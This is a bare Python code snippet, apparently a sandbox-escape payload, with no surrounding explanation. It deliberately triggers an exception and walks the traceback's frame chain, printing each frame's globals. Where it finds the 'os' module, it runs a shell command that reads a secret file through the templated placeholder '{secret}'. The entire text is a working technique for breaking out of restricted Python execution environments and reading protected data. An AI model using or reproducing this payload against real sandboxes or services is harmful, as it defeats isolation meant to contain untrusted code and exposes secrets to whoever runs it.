try:
    1 / 0
except Exception as e:
    f = e.__traceback__.tb_frame
    while f:
        print(f.f_globals.keys())
        if "os" in f.f_globals:
            f.f_globals["os"].system("cat {secret}")
        f = f.f_back
